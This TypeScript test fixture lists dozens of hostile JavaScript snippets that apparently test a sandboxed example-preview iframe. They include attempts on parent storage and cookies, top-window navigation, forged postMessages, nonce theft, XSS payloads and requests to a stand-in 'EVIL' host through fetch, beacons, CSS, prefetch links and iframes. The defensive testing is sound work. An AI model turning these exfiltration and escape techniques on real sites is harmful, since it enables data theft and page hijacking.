import type { HostileProgram } from './outcome.ts';

const link = (attributes: string): string =>
  `const link = Object.assign(document.createElement('link'), ${attributes});\ndocument.head.append(link);`;
const anchor = (attributes: string): string =>
  `const a = Object.assign(document.createElement('a'), ${attributes});\ndocument.body.append(a);\na.click();`;

/** Programs that attack the page or navigate it. */
const AGAINST_THE_PAGE: readonly HostileProgram[] = [
  { name: "the page's document", code: 'parent.document.title;', outcome: /SecurityError/ },
  { name: "the top window's document", code: 'top.document.body.innerHTML = "owned";', outcome: /SecurityError/ },
  { name: "the page's storage", code: 'parent.localStorage.clear();', outcome: /SecurityError/ },
  { name: 'localStorage', code: "localStorage.setItem('theme-preference', 'dark');", outcome: 'shown' },
  { name: 'cookies', code: "document.cookie = 'owned=1';", outcome: /SecurityError/ },
  { name: 'IndexedDB', code: "indexedDB.open('owned');", outcome: /SecurityError/ },
  {
    name: 'a BroadcastChannel',
    code: "new BroadcastChannel('patternbook').postMessage('owned');",
    outcome: 'shown'
  },
  {
    name: 'a service worker',
    code: "navigator.serviceWorker.register('/assets/main.js');",
    outcome: /SecurityError|TypeError/
  },
  { name: "the page's address", code: "top.location = 'EVIL/top';", outcome: /SecurityError/ },
  { name: "the page's address, by a link", code: anchor("{ href: 'EVIL/target', target: '_top' }"), outcome: 'shown' },
  { name: "the page's history", code: 'history.back();\nhistory.go(-1);', outcome: 'shown' },
  {
    name: "the page's focus",
    code: "const field = document.createElement('input');\ndocument.body.append(field);\nfield.focus();",
    outcome: 'shown'
  },
  { name: 'full screen', code: 'document.body.requestFullscreen();', outcome: 'shown' },
  { name: 'a dialog', code: "alert('owned');\nconfirm('owned');\nprompt('owned');\nprint();", outcome: 'shown' },
  {
    name: 'forged messages of the site',
    code: "parent.postMessage('patternbook:connect', '*');\nparent.postMessage({ kind: 'shown', run: 1 }, '*');",
    outcome: 'shown'
  },
  {
    name: "the frame's message port",
    code: "Object.defineProperty(MessageEvent.prototype, 'data', { get() { this.target.postMessage({ kind: 'height', height: 1e9 }); this.target.postMessage({ kind: 'console', run: 1, level: 'log', text: '<img src=x onerror=alert(1)>' }); this.target.postMessage({ kind: 'failed', run: 1, failure: { phase: 'load', message: { toString: 1 }, stack: 1 } }); return { kind: 'none' }; } });",
    outcome: 'shown or stopped'
  }
];

/** Programs that navigate or open windows. */
const NAVIGATION: readonly HostileProgram[] = [
  { name: 'its own address', code: "location.href = 'EVIL/location';", outcome: 'shown or stopped' },
  { name: 'its own address, replaced', code: "location.replace('EVIL/replace');", outcome: 'shown or stopped' },
  { name: 'its own address, on this site', code: "location.href = '/';", outcome: 'stopped' },
  {
    name: 'a data: document',
    code: "location.href = 'data:text/html,<img src=EVIL/data>';",
    outcome: 'shown or stopped'
  },
  {
    name: 'a blob: document',
    code: "location.href = URL.createObjectURL(new Blob(['<img src=EVIL/blob>'], { type: 'text/html' }));",
    outcome: 'shown or stopped'
  },
  { name: 'a javascript: URL', code: "location.href = `javascript:fetch('EVIL/javascript')`;", outcome: 'shown' },
  {
    name: 'a meta refresh',
    code: "const meta = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=EVIL/refresh' });\ndocument.head.append(meta);",
    outcome: 'shown or stopped'
  },
  {
    name: 'a form',
    code: "const form = Object.assign(document.createElement('form'), { action: 'EVIL/form', method: 'post' });\ndocument.body.append(form);\nform.submit();",
    outcome: 'shown or stopped'
  },
  {
    name: 'a form in a new window',
    code: "const form = Object.assign(document.createElement('form'), { action: 'EVIL/form', target: '_blank' });\ndocument.body.append(form);\nform.requestSubmit();",
    outcome: 'shown or stopped'
  },
  { name: 'a window', code: "window.open('EVIL/window');", outcome: 'shown' },
  { name: 'a window by a link', code: anchor("{ href: 'EVIL/blank', target: '_blank' }"), outcome: 'shown' },
  { name: 'a download', code: anchor("{ href: 'data:text/plain,owned', download: 'owned.txt' }"), outcome: 'shown' },
  {
    name: 'its own removal',
    code: 'window.close();\nwindow.stop();\ndocument.documentElement.remove();',
    outcome: 'shown or failed or stopped'
  },
  {
    name: 'document.write()',
    code: "document.open();\ndocument.write('<img src=EVIL/write>');\ndocument.close();",
    outcome: /isn’t available in previews/
  }
];

/** Programs that send requests to another server. */
const EXFILTRATION: readonly HostileProgram[] = [
  { name: 'fetch()', code: "fetch('EVIL/fetch').catch(() => undefined);", outcome: 'shown' },
  {
    name: 'XMLHttpRequest',
    code: "const request = new XMLHttpRequest();\nrequest.open('GET', 'EVIL/xhr');\nrequest.send();",
    outcome: 'shown'
  },
  { name: 'sendBeacon()', code: "navigator.sendBeacon('EVIL/beacon', 'owned');", outcome: 'shown' },
  { name: 'a WebSocket', code: "new WebSocket('EVIL/socket'.replace('http', 'ws'));", outcome: 'shown' },
  { name: 'an EventSource', code: "new EventSource('EVIL/events');", outcome: 'shown' },
  { name: 'an image', code: "new Image().src = 'EVIL/image';", outcome: 'shown' },
  {
    name: 'SVG and media elements',
    code: "document.body.insertAdjacentHTML('beforeend', '<svg><image href=EVIL/svg></image><use href=EVIL/use#x></use></svg><video src=EVIL/video poster=EVIL/poster></video><input type=image src=EVIL/input><object data=EVIL/object></object><embed src=EVIL/embed>');",
    outcome: 'shown'
  },
  { name: 'a style sheet', code: link("{ rel: 'stylesheet', href: 'EVIL/sheet' }"), outcome: 'shown' },
  {
    name: 'CSS resources',
    code: "document.head.insertAdjacentHTML('beforeend', '<style>@import \"EVIL/import\"; @font-face { font-family: x; src: url(EVIL/font) } body { font-family: x; background: url(EVIL/background); cursor: url(EVIL/cursor), auto }</style>');",
    outcome: 'shown'
  },
  {
    name: 'a script',
    code: "document.head.append(Object.assign(document.createElement('script'), { src: 'EVIL/script' }));",
    outcome: 'shown'
  },
  { name: 'a module', code: "import('EVIL/module').catch(() => undefined);", outcome: /Can’t find “http:.*\/module”/ },
  {
    name: 'a module by a computed address',
    code: "const address = 'EVIL/module';\nimport(address).catch(() => undefined);",
    outcome: 'shown'
  },
  {
    name: 'a worker',
    code: 'new Worker(URL.createObjectURL(new Blob(["fetch(\'EVIL/worker\')"])));',
    outcome: /SecurityError: Worker isn’t available in previews/
  },
  {
    name: 'an iframe',
    code: "document.body.append(Object.assign(document.createElement('iframe'), { src: 'EVIL/frame' }));",
    outcome: 'shown'
  },
  {
    name: 'an iframe with srcdoc',
    code: "document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<img src=EVIL/srcdoc>' }));",
    outcome: 'shown'
  },
  {
    name: 'functions of an empty iframe',
    code: "const frame = document.body.appendChild(document.createElement('iframe'));\nframe.contentWindow.fetch('EVIL/inner');",
    outcome: /SecurityError|TypeError/
  },
  {
    name: 'WebRTC',
    code: "new RTCPeerConnection({ iceServers: [{ urls: 'stun:STUN' }] });",
    outcome: /RTCPeerConnection is not defined/
  },
  { name: 'dns-prefetch', code: link("{ rel: 'dns-prefetch', href: '//secret.example' }"), outcome: 'shown' },
  { name: 'preconnect', code: link("{ rel: 'preconnect', href: 'EVIL' }"), outcome: 'shown' },
  { name: 'prefetch', code: link("{ rel: 'prefetch', href: 'EVIL/prefetch' }"), outcome: 'shown' },
  {
    name: 'preload',
    code: link("{ rel: 'preload', as: 'image', href: 'EVIL/preload' }"),
    outcome: 'shown'
  },
  {
    name: 'modulepreload',
    code: link("{ rel: 'modulepreload', href: 'EVIL/modulepreload' }"),
    outcome: 'shown'
  },
  {
    name: 'speculation rules',
    code: 'document.head.append(Object.assign(document.createElement(\'script\'), { type: \'speculationrules\', text: \'{"prefetch":[{"source":"list","urls":["EVIL/guess"]}]}\' }));',
    outcome: 'shown'
  },
  { name: 'a link with ping', code: anchor("{ href: '#', ping: 'EVIL/ping' }"), outcome: 'shown' },
  {
    name: 'a CSP report',
    code: "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=\"Content-Security-Policy\" content=\"img-src x; report-uri EVIL/report\">');\nnew Image().src = '/x.png';",
    outcome: 'shown'
  }
];

/** Programs that combine all ways to reach another server. */
const COMBINED: readonly HostileProgram[] = [
  {
    name: 'every element that loads a resource',
    code: [
      "const sources = ['img', 'script', 'iframe', 'embed', 'video', 'audio', 'source', 'track', 'input', 'frame', 'bgsound'];",
      "for (const name of sources) document.body.append(Object.assign(document.createElement(name), { src: `EVIL/${name}`, type: 'image' }));",
      "for (const rel of ['stylesheet', 'icon', 'manifest', 'preload', 'prefetch', 'prerender', 'preconnect', 'dns-prefetch', 'modulepreload', 'import', 'next', 'alternate']) document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: `EVIL/${rel}` }));",
      "document.body.insertAdjacentHTML('beforeend', '<object data=EVIL/object></object><img srcset=\"EVIL/srcset 1x\"><picture><source srcset=EVIL/picture><img></picture><body background=EVIL/body><table background=EVIL/table></table><applet code=EVIL/applet></applet><portal src=EVIL/portal></portal><fencedframe></fencedframe>');"
    ].join('\n'),
    outcome: 'shown or stopped'
  },
  {
    name: 'a meta refresh and a base URL',
    code: "document.head.insertAdjacentHTML('beforeend', '<base href=EVIL/base/><meta http-equiv=refresh content=\"0;url=refreshed\">');\nnew Image().src = 'relative.png';",
    outcome: 'shown or stopped'
  },
  {
    name: 'document.write() with scripts',
    code: "document.open();\ndocument.write('<script src=EVIL/written></script><link rel=preconnect href=EVIL><img src=EVIL/image>');\ndocument.close();",
    outcome: /isn’t available in previews/
  },
  {
    name: 'iframes with their own realms',
    code: [
      "for (const source of ['about:blank', 'javascript:fetch(`EVIL/js`)', 'data:text/html,<script>fetch(`EVIL/data`)</script>', URL.createObjectURL(new Blob(['<script>fetch(`EVIL/blob`)</script>'], { type: 'text/html' }))]) {",
      "  const frame = document.body.appendChild(Object.assign(document.createElement('iframe'), { src: source }));",
      '  try { frame.contentWindow.fetch(`EVIL/realm`); } catch { /* its origin is another */ }',
      '  try { new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:STUN` }] }); } catch { /* the same */ }',
      '}'
    ].join('\n'),
    outcome: 'shown or stopped'
  },
  {
    name: 'dangerouslySetInnerHTML with everything',
    code: 'export const Example = () => <div dangerouslySetInnerHTML={{ __html: \'<link rel=preconnect href=EVIL><link rel=preload as=image href=EVIL/preload><meta http-equiv=refresh content="0;url=EVIL/refresh"><base href=EVIL/base><img src=EVIL/img onerror=alert(1)><svg onload=alert(1)><script>fetch(`EVIL/script`)</script></svg><iframe srcdoc="<script>fetch(`EVIL/srcdoc`)</script>"></iframe><form action=EVIL/form><button autofocus>go</button></form><a href=javascript:alert(1) id=a>a</a>\' }} />;',
    outcome: 'shown or stopped'
  }
];

/** Programs that manipulate the environment of the next example. */
const TAMPERING: readonly HostileProgram[] = [
  { name: 'new Function()', code: "new Function('return 1')();", outcome: /EvalError|unsafe-eval/ },
  {
    name: "the frame's nonce",
    code: [
      "const scripts = [...document.querySelectorAll('script, style, link'), document.currentScript].filter(Boolean);",
      'const nonce = scripts.map((script) => script.nonce || script.getAttribute("nonce")).find(Boolean);',
      "document.head.append(Object.assign(document.createElement('script'), { nonce, text: 'console.log(\"owned\")' }));",
      "console.log(`nonce: ${nonce ?? 'none'}`);"
    ].join('\n'),
    outcome: 'shown',
    console: /^nonce: none$/
  },
  {
    name: 'a script imported at run time',
    code: "const address = URL.createObjectURL(new Blob(['console.log(\"owned\")'], { type: 'text/javascript' }));\nimport(address).catch(() => console.log('refused'));",
    outcome: 'shown',
    console: /^refused$/
  },
  { name: "the registry's React", code: 'patternbook.define({});\npatternbook.define = null;', outcome: /TypeError/ },
  {
    name: 'Object.prototype',
    code: "Object.prototype.kind = 'shown';\nObject.prototype.toString = null;\nArray.prototype.map = () => ['owned'];",
    outcome: 'failed or stopped'
  },
  {
    name: 'the document of the frame',
    code: "document.body.innerHTML = '';\ndocument.head.innerHTML = '';",
    outcome: 'shown or stopped'
  },
  {
    name: 'the exports of a library',
    code: "import * as core from '@patternfly/react-core';\ncore.Button = () => 'owned';",
    outcome: /TypeError/
  },
  { name: 'an error without a message', code: 'throw { toString() { throw null; } };', outcome: /has no text/ },
  {
    name: 'an error with markup',
    code: "throw new Error('<img src=EVIL/error onerror=alert(1)>');",
    outcome: /Error: <img/
  }
];

/** All programs that try to escape from the frame. */
export const ESCAPES: readonly HostileProgram[] = [
  ...AGAINST_THE_PAGE,
  ...NAVIGATION,
  ...EXFILTRATION,
  ...COMBINED,
  ...TAMPERING
];
